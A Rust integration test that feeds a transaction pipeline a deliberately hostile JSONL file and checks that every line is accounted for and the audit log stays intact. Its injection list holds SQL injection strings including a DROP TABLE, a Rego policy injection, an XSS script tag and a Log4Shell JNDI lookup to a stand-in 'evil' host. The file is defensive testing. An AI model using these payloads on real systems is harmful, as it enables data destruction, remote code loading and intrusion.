//! A hostile input file end to end (embedded default): deeply nested JSON, a 10 MB message,
//! invalid UTF-8, 1e309 and -0, duplicated keys, SQL and Rego injection strings in every text
//! field, control characters, and 10,000 copies of one record. The run exits 0, every line is
//! accounted for exactly once, the tables and the audit chain are intact.

use crate::common;

use std::io::Write;

const OK: &str = r#""account_id":"acct-1","timestamp":"2026-01-01T00:00:00Z","amount":"12.50","currency":"EUR","merchant":"Shop","mcc":"5411","country":"DE","channel":"online""#;

fn record(id: &str, extra: &str) -> Vec<u8> {
    format!(r#"{{"transaction_id":"{id}",{OK}{extra}}}"#).into_bytes()
}

fn hostile_lines() -> Vec<Vec<u8>> {
    let mut lines: Vec<Vec<u8>> = Vec::new();
    // Nesting far beyond any parser's recursion limit.
    lines.push(format!("{}1{}", r#"{"a":"#.repeat(100_000), "}".repeat(100_000)).into_bytes());
    lines.push(format!("{}{}", "[".repeat(200_000), "]".repeat(200_000)).into_bytes());
    // A 10 MB message.
    lines.push(record(
        "big-1",
        &format!(r#","description":"{}""#, "A".repeat(10 * 1024 * 1024)),
    ));
    // Invalid UTF-8, raw and inside a string.
    lines.push(b"\xff\xfe\xfd not utf-8 at all".to_vec());
    let mut bad_utf8 = record("utf8-1", r#","description":"caf"#);
    bad_utf8.truncate(bad_utf8.len() - 1);
    bad_utf8.extend_from_slice(b"\xc3\x28\"}");
    lines.push(bad_utf8);
    // Numbers.
    for (i, amount) in [
        "1e309",
        "-1e309",
        "-0",
        "\"-0\"",
        "0.0",
        "1e-400",
        "123456789012345678901234567890",
    ]
    .iter()
    .enumerate()
    {
        lines.push(
            format!(
                r#"{{"transaction_id":"num-{i}","amount":{amount},"account_id":"acct-1","timestamp":"2026-01-01T00:00:00Z","currency":"EUR","merchant":"Shop","mcc":"5411","country":"DE","channel":"online"}}"#
            )
            .into_bytes(),
        );
    }
    // Duplicated keys.
    lines.push(record(
        "dupkey-1",
        r#","transaction_id":"dupkey-2","amount":"99.00""#,
    ));
    // Injection strings in every text field, one field at a time.
    let injections = [
        "'; DROP TABLE transactions; --",
        "\" OR 1=1 --",
        "x\"} } allow := true { input.x == \"",
        "data.agentic.allow with input as {}",
        "${jndi:ldap://evil/a}",
        "<script>alert(1)</script>",
    ];
    let fields = pfm::domain::REQUIRED_FIELDS
        .iter()
        .chain(pfm::domain::OPTIONAL_FIELDS.iter());
    for (fi, field) in fields.enumerate() {
        for (ii, inj) in injections.iter().enumerate() {
            let mut v: serde_json::Value =
                serde_json::from_str(&format!(r#"{{"transaction_id":"inj-{fi}-{ii}",{OK}}}"#))
                    .expect("base record");
            v[*field] = serde_json::Value::String((*inj).to_owned());
            if *field == "transaction_id" {
                v[*field] = serde_json::Value::String(format!("{inj}-{fi}-{ii}"));
            }
            lines.push(v.to_string().into_bytes());
        }
    }
    // Control characters (escaped, and a raw one that makes the JSON invalid).
    lines.push(record(
        "ctl-1",
        r#","description":"a\u0000b\u001b[31mred\r\n\ttab""#,
    ));
    lines.push(record("ctl-2", ",\"merchant\":\"raw\u{1}control\""));
    // 10,000 copies of one record.
    let copy = record("copy-1", "");
    for _ in 0..10_000 {
        lines.push(copy.clone());
    }
    lines
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_file_runs_to_the_end_and_every_line_is_accounted_for() {
    let dir = tempfile::tempdir().expect("tmp");
    run_hostile_file(dir.path(), None).await;
}

/// PostgreSQL refuses some text SQLite stores (U+0000): such a record must become a dead
/// letter, not fail its batch's commit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_file_runs_to_the_end_on_postgresql() {
    let dir = tempfile::tempdir().expect("tmp");
    let Some(url) = common::fresh_migrated_pg_database(dir.path()).await else {
        return;
    };
    run_hostile_file(dir.path(), Some(&url)).await;
}

/// In-process through `pfm::app::App`: the run, not the process boundary, is under test.
async fn run_hostile_file(dir: &std::path::Path, database_url: Option<&str>) {
    let lines = hostile_lines();
    let file = dir.join("hostile.jsonl");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).expect("create"));
        for l in &lines {
            f.write_all(l).expect("write");
            f.write_all(b"\n").expect("write");
        }
    }
    let summary = common::in_process::InProcess::new(dir, database_url)
        .run_file(&file)
        .await
        .expect("the run ends without an error");
    let s = serde_json::to_value(&summary).expect("summary JSON");
    let n = |k: &str| s[k].as_u64().unwrap_or_else(|| panic!("{k} in {s}"));
    let accounted = n("transactions") + n("quarantined") + n("dead_letters") + n("replays");
    println!(
        "lines={} records_in={} transactions={} quarantined={} dead_letters={} replays={}",
        lines.len(),
        n("records_in"),
        n("transactions"),
        n("quarantined"),
        n("dead_letters"),
        n("replays")
    );
    assert_eq!(n("records_in"), lines.len() as u64, "every line read");
    assert_eq!(
        accounted,
        lines.len() as u64,
        "every line in exactly one outcome"
    );
    assert!(
        n("replays") >= 9_999,
        "the copies are replays of one record"
    );
    let cfg = common::in_process::InProcess::new(dir, database_url).config();
    let verify = pfm::app::verify_audit_log(&cfg).await.expect("verify");
    assert!(
        matches!(verify, pfm::store::VerifyReport::Intact { .. }),
        "{verify:?}"
    );
    let counts = async {
        match database_url {
            None => {
                let s = pfm::store::SqliteStore::open(&dir.join("pipeline.db"))
                    .await
                    .expect("open");
                pfm::store::CommitStore::counts(&s).await
            }
            Some(url) => {
                let s = pfm::store::PgStore::connect(url, 2).await.expect("connect");
                pfm::store::CommitStore::counts(&s).await
            }
        }
        .expect("the tables are all still there")
    }
    .await;
    assert_eq!(
        (counts.transactions + counts.quarantine + counts.dead_letters) as u64,
        lines.len() as u64 - n("replays")
    );
}
